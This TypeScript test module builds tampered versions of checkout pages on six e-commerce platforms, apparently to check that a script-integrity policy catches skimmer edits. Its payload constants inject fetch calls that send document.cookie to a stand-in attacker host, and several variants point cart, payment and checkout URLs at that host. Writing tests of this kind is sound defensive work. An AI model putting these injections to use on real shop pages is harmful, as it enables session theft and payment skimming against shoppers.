/**
 * What a skimmer does to a rendered platform page, one edit at a time. Each variant is a function
 * from a clean rendering to a tampered one, and throws when the page does not have the place it
 * edits (so a test can never pass because the tamper silently did nothing).
 *
 * The attacks, where the platform has the place for them:
 *   appended-statement   an extra statement inside a script the policy allows by template
 *   foreign-url-in-slot  a per-request or per-session value (a cart URL) pointing at the attacker
 *   code-in-slot         code where the template expects a literal (a nonce computed by a function)
 *   renamed-key          the allowed script with one fixed token changed (a key, a global)
 *   foreign-data-block   a JSON or x-magento-init data block pointing at the attacker
 * On EC-CUBE every inline script is allowed by exact hash, so the same edits land on hashed scripts.
 */
import { nextStringContent, phpJson, rawurlencode } from './carts.js';
import type { Platform } from './render.js';

export type Attack = 'appended-statement' | 'foreign-url-in-slot' | 'code-in-slot' | 'renamed-key' | 'foreign-data-block';

export interface TamperedVariant {
  readonly name: string;
  readonly attack: Attack;
  /** What was changed, for a failure message. */
  readonly description: string;
  readonly tamper: (html: string) => string;
}

export const ATTACKER = 'https://skim.attacker.example';
const APPENDED = `;fetch("${ATTACKER}/c?"+document.cookie)`;
const CODE = `(function(){fetch("${ATTACKER}/c?"+document.cookie);return "0"})()`;
const ESCAPED_PAY_URL = `${ATTACKER}/pay`.replace(/\//g, '\\/');

/** `edit` applied to the text of the first script element whose text contains `marker`. */
function editScript(html: string, marker: string, edit: (text: string) => string): string {
  const at = html.indexOf(marker);
  if (at < 0) throw new Error(`no script containing ${JSON.stringify(marker)}`);
  const open = html.lastIndexOf('<script', at);
  const start = html.indexOf('>', open) + 1;
  const end = html.indexOf('</script', at);
  if (open < 0 || start <= 0 || start > at || end < 0) throw new Error(`${JSON.stringify(marker)} is not inside a script`);
  const text = html.slice(start, end);
  const edited = edit(text);
  if (edited === text) throw new Error(`the edit changed nothing in the script containing ${JSON.stringify(marker)}`);
  return html.slice(0, start) + edited + html.slice(end);
}

function replaceOnce(text: string, from: string | RegExp, to: string | ((match: string, ...groups: string[]) => string)): string {
  const found = typeof from === 'string' ? text.includes(from) : from.test(text);
  if (!found) throw new Error(`nothing matches ${String(from)}`);
  return typeof to === 'string' ? text.replace(from, () => to) : text.replace(from, to as (m: string) => string);
}

/** The first match of `field` (a quoted key and its string value) set to `value`, or `fallback` applied when there is none. */
function setFirst(text: string, field: RegExp, value: string, fallback: (text: string) => string): string {
  return field.test(text) ? text.replace(field, (_m, key: string) => `${key}${value}`) : fallback(text);
}

const VARIANTS: Record<Platform, readonly TamperedVariant[]> = {
  'woocommerce-classic': [
    {
      name: 'fetch appended to wc_checkout_params',
      attack: 'appended-statement',
      description: 'a statement after the localized object, inside wc-checkout-js-extra',
      tamper: (html) => editScript(html, 'var wc_checkout_params', (t) => replaceOnce(t, '."};', `."}${APPENDED};`)),
    },
    {
      name: 'cart item url set to the attacker in wc_paygateway_params',
      attack: 'foreign-url-in-slot',
      description: 'display_items[0].url (or a new item) points at the attacker',
      tamper: (html) =>
        editScript(html, 'var wc_paygateway_params', (t) =>
          setFirst(t, /("url":)"[^"]*"/, `"${ESCAPED_PAY_URL}"`, (u) => replaceOnce(u, '"display_items":[]', `"display_items":[{"label":"Order","amount":100,"url":"${ESCAPED_PAY_URL}"}]`))),
    },
    {
      name: 'update_order_review_nonce computed by a function',
      attack: 'code-in-slot',
      description: 'the nonce slot holds a call instead of a string',
      tamper: (html) => editScript(html, 'var wc_checkout_params', (t) => replaceOnce(t, /"update_order_review_nonce":"[0-9a-f]+"/, `"update_order_review_nonce":${CODE}`)),
    },
    {
      name: 'remove_coupon_nonce renamed',
      attack: 'renamed-key',
      description: 'a key of the templated object renamed',
      tamper: (html) => editScript(html, 'var wc_checkout_params', (t) => replaceOnce(t, '"remove_coupon_nonce":', '"remove_coupon_token":')),
    },
  ],
  'woocommerce-blocks': [
    {
      name: 'fetch appended to wcBlocksMiddlewareConfig',
      attack: 'appended-statement',
      description: 'a statement after the config object, inside wc-blocks-middleware-js-before',
      tamper: (html) => editScript(html, 'var wcBlocksMiddlewareConfig', (t) => replaceOnce(t, /\};/, `}${APPENDED};`)),
    },
    {
      name: 'preloaded cart item permalink set to the attacker',
      attack: 'foreign-url-in-slot',
      description: 'items[0].permalink of the preloaded /wc/store/v1/cart response (inside the percent-encoded JSON) points at the attacker',
      tamper: (html) =>
        editScript(html, 'createPreloadingMiddleware', (t) =>
          replaceOnce(t, /(createPreloadingMiddleware\( JSON\.parse\( decodeURIComponent\( ')([^']*)(')/, (_m, before: string, encoded: string, after: string) => {
            const preloaded = JSON.parse(decodeURIComponent(encoded)) as Record<string, { body: { items: Record<string, unknown>[] } }>;
            const body = preloaded['/wc/store/v1/cart']!.body;
            if (body.items.length === 0) body.items.push({ key: 'x', id: 1, quantity: 1, name: 'Order' });
            body.items[0]!['permalink'] = `${ATTACKER}/pay`;
            return `${before}${rawurlencode(phpJson(preloaded))}${after}`;
          })),
    },
    {
      name: 'storeApiNonce computed by a function',
      attack: 'code-in-slot',
      description: 'storeApiNonce: (function(){…})()',
      tamper: (html) => editScript(html, 'var wcBlocksMiddlewareConfig', (t) => replaceOnce(t, /storeApiNonce: '[0-9a-f]+'/, `storeApiNonce: ${CODE}`)),
    },
    {
      name: 'wcStoreApiNonceTimestamp renamed',
      attack: 'renamed-key',
      description: 'a key of the templated object renamed',
      tamper: (html) => editScript(html, 'var wcBlocksMiddlewareConfig', (t) => replaceOnce(t, 'wcStoreApiNonceTimestamp:', 'wcStoreApiNonceTimeStamp:')),
    },
    {
      name: 'interactivity data placeholder image on the attacker',
      attack: 'foreign-data-block',
      description: 'wp-interactivity-data (application/json) carries a foreign URL',
      tamper: (html) => editScript(html, '"placeholderImgSrc":', (t) => replaceOnce(t, /("placeholderImgSrc":)"[^"]*"/, (_m, key) => `${key}"${ESCAPED_PAY_URL}"`)),
    },
  ],
  magento: [
    {
      name: 'fetch appended to the checkoutConfig script',
      attack: 'appended-statement',
      description: 'a statement after the customer.js aliases, inside the onepage.phtml script',
      tamper: (html) => editScript(html, 'window.checkoutConfig = ', (t) => replaceOnce(t, 'window.customerData = window.checkoutConfig.customerData;', `window.customerData = window.checkoutConfig.customerData${APPENDED};`)),
    },
    {
      name: 'quote item thumbnail set to the attacker',
      attack: 'foreign-url-in-slot',
      description: 'quoteItemData[0].thumbnail (or a new item) points at the attacker',
      tamper: (html) =>
        editScript(html, 'window.checkoutConfig = ', (t) =>
          setFirst(t, /("thumbnail":)"https?:[^"]*"/, `"${ESCAPED_PAY_URL}"`, (u) => replaceOnce(u, '"quoteItemData":[]', `"quoteItemData":[{"item_id":"1","qty":1,"thumbnail":"${ESCAPED_PAY_URL}"}]`))),
    },
    {
      name: 'formKey computed by a function',
      attack: 'code-in-slot',
      description: '"formKey":(function(){…})()',
      tamper: (html) => editScript(html, 'window.checkoutConfig = ', (t) => replaceOnce(t, /"formKey":"[A-Za-z0-9]+"/, `"formKey":${CODE}`)),
    },
    {
      name: 'defaultSuccessPageUrl renamed',
      attack: 'renamed-key',
      description: 'a key of the templated checkoutConfig renamed',
      tamper: (html) => editScript(html, 'window.checkoutConfig = ', (t) => replaceOnce(t, '"defaultSuccessPageUrl":', '"defaultSuccessPageURL":')),
    },
    {
      name: 'customer-data section load URL on the attacker',
      attack: 'foreign-data-block',
      description: 'an x-magento-init block (Magento_Customer/js/customer-data) points at the attacker',
      tamper: (html) => editScript(html, '"sectionLoadUrl":', (t) => replaceOnce(t, /("sectionLoadUrl": )"[^"]*"/, (_m, key) => `${key}"${ESCAPED_PAY_URL}"`)),
    },
  ],
  eccube: [
    {
      name: 'fetch appended to the order script',
      attack: 'appended-statement',
      description: 'a statement after $(function(){…}) in Shopping/index.twig\'s script (allowed by hash)',
      tamper: (html) => editScript(html, "$('#shopping-form').on('change'", (t) => `${t.trimEnd()}${APPENDED};\n`),
    },
    {
      name: 'redirect_to URL in the order script set to the attacker',
      attack: 'foreign-url-in-slot',
      description: 'the absolute url("shopping_redirect_to") the script submits to points at the attacker (EC-CUBE has no slots: a hashed script)',
      tamper: (html) => editScript(html, "$('#shopping-form').on('change'", (t) => replaceOnce(t, /'[^']*\/shopping\/redirect_to'/, `'${ATTACKER}/pay'`)),
    },
    {
      name: 'eccube_lang message computed by a function',
      attack: 'code-in-slot',
      description: 'a translation replaced by a call (lang.twig, allowed by hash)',
      tamper: (html) => editScript(html, 'var eccube_lang', (t) => replaceOnce(t, '"削除してもよろしいですか?"', CODE)),
    },
    {
      name: 'eccube_lang key renamed',
      attack: 'renamed-key',
      description: 'a key of eccube_lang renamed (allowed by hash)',
      tamper: (html) => editScript(html, 'var eccube_lang', (t) => replaceOnce(t, '"common.delete_confirm":', '"common.delete_confirmed":')),
    },
  ],
  'shopify-dawn': [
    {
      name: 'fetch appended to __st',
      attack: 'appended-statement',
      description: 'a statement after var __st={…}',
      tamper: (html) => editScript(html, 'var __st=', (t) => replaceOnce(t, '"p":"cart"};', `"p":"cart"}${APPENDED};`)),
    },
    {
      name: 'web pixels cart product url set to the attacker',
      attack: 'foreign-url-in-slot',
      description: 'initData.cart.lines[0].merchandise.product.url (or a new line) in web-pixels-manager-setup points at the attacker',
      tamper: (html) =>
        editScript(html, 'initData: {', (t) =>
          setFirst(t, /("url":)"\\\/products\\\/[^"]*"/, `"${ESCAPED_PAY_URL}"`, (u) => replaceOnce(u, '"lines":[]', `"lines":[{"merchandise":{"product":{"url":"${ESCAPED_PAY_URL}"}},"quantity":1}]`))),
    },
    {
      name: 'reqid computed by a function',
      attack: 'code-in-slot',
      description: '"reqid":(function(){…})()',
      tamper: (html) => editScript(html, 'var __st=', (t) => replaceOnce(t, /"reqid":"[^"]*"/, `"reqid":${CODE}`)),
    },
    {
      name: '__st reqid key renamed',
      attack: 'renamed-key',
      description: 'a key of the templated __st object renamed',
      tamper: (html) => editScript(html, 'var __st=', (t) => replaceOnce(t, '"reqid":', '"requestid":')),
    },
    {
      name: 'cart JSON block carries a checkout URL on the attacker',
      attack: 'foreign-data-block',
      description: 'the application/json cart block gains "checkout_url" pointing at the attacker',
      tamper: (html) => replaceOnce(html, '<script type="application/json" id="cart-json">{', `<script type="application/json" id="cart-json">{"checkout_url":"${ESCAPED_PAY_URL}",`),
    },
  ],
  nextjs: [
    {
      name: 'fetch appended to an RSC push',
      attack: 'appended-statement',
      description: 'a statement after the first self.__next_f.push([1,"…"])',
      tamper: (html) => editScript(html, 'self.__next_f.push([1,"', (t) => replaceOnce(t, /\]\)$/, `])${APPENDED}`)),
    },
    {
      name: 'RSC chunk carries a link to the attacker',
      attack: 'foreign-url-in-slot',
      description: 'a flight row rendering <a href="https://skim.attacker.example/pay"> prepended to the first chunk string',
      tamper: (html) => {
        const row = nextStringContent(`2f:["$","a",null,{"href":"${ATTACKER}/pay","children":"Continue to payment"}]\n`);
        return editScript(html, 'self.__next_f.push([1,"', (t) => replaceOnce(t, 'self.__next_f.push([1,"', `self.__next_f.push([1,"${row}`));
      },
    },
    {
      name: 'RSC chunk computed by a function',
      attack: 'code-in-slot',
      description: 'self.__next_f.push([1,(function(){…})()])',
      tamper: (html) => editScript(html, 'self.__next_f.push([1,"', (t) => replaceOnce(t, /^self\.__next_f\.push\(\[1,"(?:[^"\\]|\\.)*"\]\)$/, `self.__next_f.push([1,${CODE}])`)),
    },
    {
      name: '__next_f renamed',
      attack: 'renamed-key',
      description: 'a push to self.__next_g (another global) instead of self.__next_f',
      tamper: (html) => editScript(html, 'self.__next_f.push([1,"', (t) => replaceOnce(t, 'self.__next_f.push(', 'self.__next_g.push(')),
    },
  ],
  evershop: [
    {
      name: 'fetch appended to eContext',
      attack: 'appended-statement',
      description: 'a statement after var eContext = {…}',
      tamper: (html) => editScript(html, 'var eContext = ', (t) => `${t}${APPENDED}`),
    },
    {
      name: 'cart item productUrl set to the attacker',
      attack: 'foreign-url-in-slot',
      description: 'graphqlResponse.e2.cart.items[0].productUrl (or a new item) points at the attacker',
      tamper: (html) =>
        editScript(html, 'var eContext = ', (t) =>
          setFirst(t, /("productUrl":)"[^"]*"/, `"${ATTACKER}/pay"`, (u) => replaceOnce(u, '"items":[]', `"items":[{"productName":"Order","qty":1,"productUrl":"${ATTACKER}/pay"}]`))),
    },
    {
      name: 'couponApi computed by a function',
      attack: 'code-in-slot',
      description: '"couponApi":(function(){…})()',
      tamper: (html) => editScript(html, 'var eContext = ', (t) => replaceOnce(t, /"couponApi":"[^"]*"/, `"couponApi":${CODE}`)),
    },
    {
      name: 'propsMap renamed',
      attack: 'renamed-key',
      description: 'a key of the templated eContext renamed',
      tamper: (html) => editScript(html, 'var eContext = ', (t) => replaceOnce(t, '"propsMap":', '"propMap":')),
    },
  ],
};

/** The named tampers that apply to a platform's page. */
export function tamperedVariants(platform: Platform): readonly TamperedVariant[] {
  return VARIANTS[platform];
}
